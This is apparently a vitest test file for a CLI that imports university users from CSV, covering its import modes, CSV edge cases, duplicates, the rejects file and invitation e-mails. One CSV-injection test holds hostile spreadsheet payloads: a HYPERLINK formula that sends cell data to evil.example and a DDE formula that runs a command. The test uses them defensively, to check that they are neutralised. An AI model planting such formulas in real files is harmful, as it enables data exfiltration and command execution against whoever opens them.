/**
 * `runway users import` through its exported run function, on PGlite and PostgreSQL: every mode
 * with good and bad rows, awkward CSV, duplicates, re-runs, the rejects file and the invitation
 * e-mail delivered to a real SMTP sink.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { count, eq, sql } from "drizzle-orm";
import { auditLog, mailOutbox, passwordTokens, users } from "../../db/schema";
import { forEachDb, type TestDb } from "../../tests/setup/db";
import { createUser } from "../../tests/factories";
import { startSmtpSink, linkFrom, type SmtpSink } from "../../tests/setup/smtp-sink";
import { createSender, deliverDue } from "../../app/models/mail/mail.server";
import { hashToken } from "../../app/models/auth/tokens.server";
import { verifyPassword } from "../../app/models/auth/password.server";
import { ValidationError } from "../../app/lib/errors";
import { MSG } from "../../app/models/user/user.schema";
import { env } from "../../app/lib/env.server";
import { captureIo } from "../testing";
import { runUsersImport, type UsersImportOptions } from "./users";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "runway-import-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
let n = 0;

async function importCsv(t: TestDb, csv: string | Buffer, opts: UsersImportOptions = {}) {
  const file = path.join(tmp, `f${++n}.csv`);
  fs.writeFileSync(file, csv);
  const cap = captureIo();
  const r = await runUsersImport(file, { quiet: true, ...opts }, { handle: t.handle, io: cap.io });
  return { ...r, out: cap.out(), err: cap.err(), file };
}

async function counts(t: TestDb) {
  const [u] = await t.db.select({ n: count() }).from(users);
  const [m] = await t.db.select({ n: count() }).from(mailOutbox);
  const [p] = await t.db.select({ n: count() }).from(passwordTokens);
  return { users: Number(u.n), mails: Number(m.n), tokens: Number(p.n) };
}

const HEADER = "email,firstName,lastName,role,studentId,course,yearLevel,phone";
/** Lines 2 and 8 are good; 3–7 each break one rule of Create User. */
const MIXED = [
  HEADER,
  "ok.one@example.edu,Maria,Santos,student,2021-001,BSAMT,4th Year,",
  "outsider@gmail.com,Pedro,Penduko,student,2021-002,BSAE,4th Year,",
  "no.id@example.edu,Juan,Cruz,student,,BSAE,4th Year,",
  "short@example.edu,A,Bautista,student,2021-004,BSAE,4th Year,",
  "teacher@example.edu,Tess,Teacher,teacher,,,,",
  "nocourse@example.edu,Nina,Lopez,student,2021-006,BS in Underwater Basket Weaving,4th Year,",
  "ok.two@example.edu,Paolo,Mendoza,alumni,,,Graduate,+63 2 8555 0123",
].join("\n");
const MIXED_REJECTS = [
  { line: 3, email: "outsider@gmail.com", reason: "Only @example.edu emails are allowed" },
  { line: 4, email: "no.id@example.edu", reason: "Student ID is required for students" },
  { line: 5, email: "short@example.edu", reason: "First name must be at least 2 characters" },
  { line: 6, email: "teacher@example.edu", reason: "Please select user type (student or alumni)" },
  { line: 7, email: "nocourse@example.edu", reason: "Please choose a valid course" },
];
const pick = (rs: { line: number; email: string; reason: string }[]) =>
  rs.map(({ line, email, reason }) => ({ line, email, reason }));

describe("runway users import (run function)", () => {
  forEachDb((t) => {
    it("all-or-nothing (default): one bad row and nothing is written, exit 1, every bad row reported by line", async () => {
      const r = await importCsv(t, MIXED);
      expect(r.exitCode).toBe(1);
      expect(r.report.written).toBe(false);
      expect(pick(r.report.rejected)).toEqual(MIXED_REJECTS);
      expect(r.report).toMatchObject({ rows: 7, valid: 2, created: 0, invitesQueued: 0 });
      expect(await counts(t)).toEqual({ users: 0, mails: 0, tokens: 0 });
      expect(r.out).toContain("line 3: outsider@gmail.com — Only @example.edu emails are allowed");
      expect(r.err).toContain("Nothing was written: 5 rows were rejected");
    });

    it("--partial writes the valid rows, lists the rejected ones and exits 1", async () => {
      const r = await importCsv(t, MIXED, { partial: true });
      expect(r.exitCode).toBe(1);
      expect(r.report).toMatchObject({
        written: true,
        created: 2,
        updated: 0,
        skipped: 0,
        invitesQueued: 2,
      });
      expect(pick(r.report.rejected)).toEqual(MIXED_REJECTS);
      expect(await counts(t)).toEqual({ users: 2, mails: 2, tokens: 2 });
      const [alumnus] = await t.db
        .select()
        .from(users)
        .where(eq(users.email, "ok.two@example.edu"));
      expect(alumnus).toMatchObject({
        role: "alumni",
        firstName: "Paolo",
        yearLevel: "Graduate",
        phone: "+63 2 8555 0123",
        isActive: true,
        passwordHash: null,
      });
      expect(alumnus.emailVerifiedAt).toBeInstanceOf(Date);
      const [entry] = await t.db.select().from(auditLog).where(eq(auditLog.action, "user.import"));
      expect(entry).toMatchObject({ actorEmail: "system", entityType: "user" });
      expect(entry.after).toMatchObject({ mode: "partial", created: 2, rejected: 5 });
    });

    it("--dry-run validates and reports but writes nothing; exit 0 only when every row is valid", async () => {
      const bad = await importCsv(t, MIXED, { dryRun: true });
      expect(bad.exitCode).toBe(1);
      expect(bad.report).toMatchObject({ mode: "dry-run", written: false, created: 2 });
      expect(bad.err).toContain("Dry run: nothing was written.");
      const good = await importCsv(t, [HEADER, "a.b@example.edu,Ann,Bee,alumni,,,,"].join("\n"), {
        dryRun: true,
      });
      expect(good.exitCode).toBe(0);
      expect(good.out).toContain("would create 1");
      expect(await counts(t)).toEqual({ users: 0, mails: 0, tokens: 0 });
    });

    it("reads a BOM, CRLF, quoted commas and newlines, accents and emoji; line numbers follow physical lines", async () => {
      const csv =
        "\uFEFF" +
        [
          HEADER,
          'maria.jose@example.edu,"María José","Dela Cruz, Jr.",student,2021-100,BSAMT,4th Year,"+63 917, ext. 5"',
          'zoe@example.edu,Zoë 🚀,"Ñuñez ""Zee""",alumni,,,Graduate,',
          'multi@example.edu,"Ana',
          'Marie",Lim,alumni,,,,',
          "late@example.edu,B,Late,alumni,,,,",
          "",
          "after.blank@example.edu,Çelik,Öztürk,alumni,,,,",
        ].join("\r\n") +
        "\r\n";
      const r = await importCsv(t, csv, { partial: true });
      // A quoted line break is read as part of the field (the next record is line 6), and a name
      // with a line break is then refused by the one name rule.
      expect(pick(r.report.rejected)).toEqual([
        { line: 4, email: "multi@example.edu", reason: MSG.nameInvalid },
        { line: 6, email: "late@example.edu", reason: "First name must be at least 2 characters" },
      ]);
      expect(r.report.created).toBe(3);
      const byEmail = async (e: string) =>
        (await t.db.select().from(users).where(eq(users.email, e)))[0];
      expect(await byEmail("maria.jose@example.edu")).toMatchObject({
        firstName: "María José",
        lastName: "Dela Cruz, Jr.",
        phone: "+63 917, ext. 5",
      });
      expect(await byEmail("zoe@example.edu")).toMatchObject({
        firstName: "Zoë 🚀",
        lastName: 'Ñuñez "Zee"',
      });
      expect(await byEmail("multi@example.edu")).toBeUndefined();
      expect(await byEmail("after.blank@example.edu")).toMatchObject({
        firstName: "Çelik",
        lastName: "Öztürk",
      });
    });

    it("rejects duplicates inside the file and against the database, in the web app's words", async () => {
      await createUser(t.db, { email: "taken@example.edu", studentId: "TAKEN-1" });
      const r = await importCsv(
        t,
        [
          HEADER,
          "dup@example.edu,Dina,Dupont,alumni,,,,",
          "DUP@example.edu,Dino,Dupont,alumni,,,,",
          "s1@example.edu,Sara,One,student,SID-1,BSAE,4th Year,",
          "s2@example.edu,Sam,Two,student,sid-1,BSAE,4th Year,",
          "taken@example.edu,Tom,Taken,alumni,,,,",
          "s3@example.edu,Sol,Three,student,taken-1,BSAE,4th Year,",
        ].join("\n"),
        { partial: true },
      );
      expect(pick(r.report.rejected)).toEqual([
        {
          line: 3,
          email: "dup@example.edu",
          reason: "This email appears more than once in the file (first on line 2)",
        },
        {
          line: 5,
          email: "s2@example.edu",
          reason: "This student ID appears more than once in the file (first on line 4)",
        },
        {
          line: 6,
          email: "taken@example.edu",
          reason: "An account with this email already exists",
        },
        { line: 7, email: "s3@example.edu", reason: "This student ID is already registered" },
      ]);
      expect(r.report.created).toBe(2);
    });

    it("re-running a file changes nothing (default, --partial and --update)", async () => {
      const csv = [
        HEADER,
        "r1@example.edu,Rita,One,student,R-1,BSAE,4th Year,",
        "r2@example.edu,Rob,Two,alumni,,,Graduate,",
      ].join("\n");
      const first = await importCsv(t, csv);
      expect(first.exitCode).toBe(0);
      const before = await counts(t);
      const snapshot = await t.db.select().from(users).orderBy(users.email);
      expect(before).toEqual({ users: 2, mails: 2, tokens: 2 });

      const again = await importCsv(t, csv);
      expect(again.exitCode).toBe(1);
      expect(again.report.rejected.map((x) => x.reason)).toEqual([
        "An account with this email already exists",
        "An account with this email already exists",
      ]);
      const partial = await importCsv(t, csv, { partial: true });
      expect(partial.report.written).toBe(false);
      const update = await importCsv(t, csv, { update: true });
      expect(update.exitCode).toBe(0);
      expect(update.report).toMatchObject({ created: 0, updated: 0, skipped: 2, invitesQueued: 0 });

      expect(await counts(t)).toEqual(before);
      expect(await t.db.select().from(users).orderBy(users.email)).toEqual(snapshot);
    });

    it("--update changes the listed fields of existing users, never an administrator, and creates the new ones", async () => {
      const { user: student } = await createUser(t.db, {
        email: "grad@example.edu",
        role: "student",
        firstName: "Gina",
        lastName: "Grad",
        studentId: "G-1",
        phone: "111",
      });
      await createUser(t.db, { email: "boss@example.edu", role: "admin" });
      const r = await importCsv(
        t,
        [
          "email,firstName,lastName,role,yearLevel",
          "grad@example.edu,Gina,Graduate,alumni,Graduate",
          "boss@example.edu,Bo,Boss,alumni,",
          "new@example.edu,Nell,New,alumni,",
        ].join("\n"),
        { update: true, partial: true },
      );
      expect(r.report).toMatchObject({ created: 1, updated: 1, skipped: 0 });
      expect(pick(r.report.rejected)).toEqual([
        {
          line: 3,
          email: "boss@example.edu",
          reason: "This email belongs to an administrator; an import never changes administrators",
        },
      ]);
      const [after] = await t.db.select().from(users).where(eq(users.id, student.id));
      // Listed columns changed; studentId, course and phone were not in the file and are kept.
      expect(after).toMatchObject({
        role: "alumni",
        lastName: "Graduate",
        yearLevel: "Graduate",
        studentId: "G-1",
        phone: "111",
        courseId: student.courseId,
      });
      expect(after.updatedAt.getTime()).toBeGreaterThanOrEqual(student.updatedAt.getTime());
      // Only the created user is invited.
      const mails = await t.db.select().from(mailOutbox);
      expect(mails.map((m) => m.to)).toEqual(["new@example.edu"]);
    });

    it("--rejects neutralises the formulas a rejected row carried (CSV injection)", async () => {
      const rejects = path.join(tmp, `rejects-formula-${t.driver}.csv`);
      const csv = [
        HEADER,
        `outsider@gmail.com,"=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",=cmd|' /C calc'!A0,student,@SUM(1),+1,-2,x`,
      ].join("\n");
      const r = await importCsv(t, csv, { rejects });
      expect(r.exitCode).toBe(1);
      const { parse } = await import("csv-parse/sync");
      const rows: string[][] = parse(fs.readFileSync(rejects, "utf8"));
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(rows[1]).toEqual(
        expect.arrayContaining([
          `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`,
          "'=cmd|' /C calc'!A0",
          "'@SUM(1)",
          "'+1",
          "'-2",
        ]),
      );
    });

    it("--rejects writes the rejected rows with a reason column; the fixed file imports", async () => {
      const rejects = path.join(tmp, `rejects-${t.driver}.csv`);
      const r = await importCsv(t, MIXED, { rejects });
      expect(r.exitCode).toBe(1);
      const text = fs.readFileSync(rejects, "utf8");
      const lines = text.trimEnd().split("\n");
      expect(lines[0]).toBe(`${HEADER},reason`);
      expect(lines).toHaveLength(6);
      expect(lines[1]).toBe(
        "outsider@gmail.com,Pedro,Penduko,student,2021-002,BSAE,4th Year,,Only @example.edu emails are allowed",
      );
      // The registrar fixes the rows in place (the reason column is ignored on input).
      const fixed = text
        .replace("outsider@gmail.com", "outsider@example.edu")
        .replace(
          "no.id@example.edu,Juan,Cruz,student,,",
          "no.id@example.edu,Juan,Cruz,student,2021-003,",
        )
        .replace("short@example.edu,A,", "short@example.edu,Al,")
        .replace(",teacher,", ",alumni,")
        .replace("BS in Underwater Basket Weaving", "BSAE");
      const second = await importCsv(t, fixed);
      expect(pick(second.report.rejected)).toEqual([]);
      expect(second.report.created).toBe(5);
    });

    it("refuses a file it cannot read: no header, unknown or missing columns, broken quotes, not UTF-8", async () => {
      await expect(importCsv(t, "")).rejects.toThrow(
        "The file is empty: a header row is required.",
      );
      await expect(importCsv(t, "email,firstName,lastName\nx@example.edu,Ab,Cd\n")).rejects.toThrow(
        "The header row lacks the column role",
      );
      await expect(importCsv(t, `${HEADER},favouriteColour\n`)).rejects.toThrow(
        "Unknown column in the header row: favouriteColour",
      );
      await expect(importCsv(t, `${HEADER}\n"x@example.edu,Ab\n`)).rejects.toThrow(
        /^The file is not valid CSV: /,
      );
      const latin1 = Buffer.concat([
        Buffer.from(`${HEADER}\nm@example.edu,Mar`),
        Buffer.from([0xed]),
        Buffer.from("a,Santos,alumni,,,,\n"),
      ]);
      await expect(importCsv(t, latin1)).rejects.toThrow(ValidationError);
      await expect(importCsv(t, latin1)).rejects.toThrow("The file is not UTF-8 text");
      expect(await counts(t)).toEqual({ users: 0, mails: 0, tokens: 0 });
    });

    it("accepts loose header names and a row with the wrong number of fields is rejected", async () => {
      const r = await importCsv(
        t,
        [
          "Email,First Name,last_name,User Type,Year Level",
          "loose@example.edu,Lou,Loose,Alumni,Graduate",
          "short.row@example.edu,Sho,Rt",
        ].join("\n"),
        { partial: true },
      );
      expect(r.report.created).toBe(1);
      expect(pick(r.report.rejected)).toEqual([
        {
          line: 3,
          email: "short.row@example.edu",
          reason: "This row has 3 fields but the header has 5",
        },
      ]);
    });

    it("a password column: hashed with argon2, no invitation for that user; a short or guessable one is refused", async () => {
      const r = await importCsv(
        t,
        [
          `${HEADER},password`,
          "pw@example.edu,Pia,Word,alumni,,,,,s3cret-pass-mango",
          "nopw@example.edu,Nora,Pass,alumni,,,,,",
          "weak@example.edu,Wes,Weak,alumni,,,,,12345",
          "guess@example.edu,Gus,Guess,alumni,,,,,Summer2024",
          "own@example.edu,Obdulia,Dimaculangan,alumni,,,,,Dimaculangan1999",
        ].join("\n"),
        { partial: true },
      );
      expect(pick(r.report.rejected)).toEqual([
        { line: 4, email: "weak@example.edu", reason: "Password must be at least 6 characters" },
        {
          line: 5,
          email: "guess@example.edu",
          reason: expect.stringMatching(
            /^This password is easy to guess\. .*Add another word or two\. Uncommon words are better\.$/,
          ),
        },
        {
          line: 6,
          email: "own@example.edu",
          reason: expect.stringMatching(/^This password is easy to guess\. /),
        },
      ]);
      const [pw] = await t.db.select().from(users).where(eq(users.email, "pw@example.edu"));
      expect(await verifyPassword(pw.passwordHash, "s3cret-pass-mango")).toBe(true);
      const mails = await t.db.select().from(mailOutbox);
      expect(mails.map((m) => m.to)).toEqual(["nopw@example.edu"]);
    });

    it("--no-invite queues no e-mail and creates no token", async () => {
      const r = await importCsv(
        t,
        [HEADER, "quiet@example.edu,Quinn,Quiet,alumni,,,,"].join("\n"),
        { invite: false },
      );
      expect(r.report).toMatchObject({ created: 1, invitesQueued: 0 });
      expect(await counts(t)).toEqual({ users: 1, mails: 0, tokens: 0 });
    });

    it("--json prints the report on stdout", async () => {
      const r = await importCsv(t, MIXED, { json: true, partial: true });
      const body = JSON.parse(r.out);
      expect(body).toMatchObject({ mode: "partial", created: 2, written: true, invitesQueued: 2 });
      expect(body.rejected[0]).toEqual(MIXED_REJECTS[0]);
      expect(r.err).toBe("");
    });

    describe("the invitation e-mail", () => {
      let sink: SmtpSink;
      beforeAll(async () => {
        sink = await startSmtpSink();
      });
      afterAll(async () => {
        await sink.close();
      });

      it("arrives at the SMTP sink with a link whose token is a valid, unexpired 'invite' token for that user", async () => {
        await importCsv(
          t,
          [HEADER, "invitee@example.edu,Ivy,Invitee,student,INV-1,BSAE,4th Year,"].join("\n"),
        );
        const sender = createSender({
          smtpUrl: sink.url,
          from: "Runway <no-reply@example.edu>",
          outboxDir: "",
        });
        try {
          expect(await deliverDue(t.db, sender)).toEqual({ sent: 1, failed: 0, lost: 0 });
        } finally {
          sender.close();
        }
        const mail = await sink.waitFor("invitee@example.edu");
        expect(mail.subject).toContain("Runway account");
        expect(mail.text).toContain("Hello Ivy,");
        const link = new URL(linkFrom(mail));
        expect(`${link.origin}${link.pathname}`).toBe(`${env().PUBLIC_URL}/reset-password`);
        expect(link.searchParams.get("email")).toBe("invitee@example.edu");
        const token = link.searchParams.get("token")!;
        const [row] = await t.db
          .select({
            purpose: passwordTokens.purpose,
            usedAt: passwordTokens.usedAt,
            expiresAt: passwordTokens.expiresAt,
            email: users.email,
            days: sql<number>`extract(epoch from ${passwordTokens.expiresAt} - now()) / 86400`,
          })
          .from(passwordTokens)
          .innerJoin(users, eq(users.id, passwordTokens.userId))
          .where(eq(passwordTokens.tokenHash, hashToken(token)));
        expect(row).toMatchObject({
          purpose: "invite",
          usedAt: null,
          email: "invitee@example.edu",
        });
        expect(Number(row.days)).toBeGreaterThan(6.9);
        expect(Number(row.days)).toBeLessThanOrEqual(7);
        // Delivered: the outbox keeps the audit (to, template, subject) but no live invitation link.
        const outbox = await t.db.select().from(mailOutbox);
        expect(outbox).toHaveLength(1);
        expect(outbox[0]).toMatchObject({
          to: "invitee@example.edu",
          template: "invite",
          status: "sent",
          text: null,
          html: null,
          notice: null,
        });
        expect(JSON.stringify(outbox)).not.toContain(token);
      });
    });
  });
});
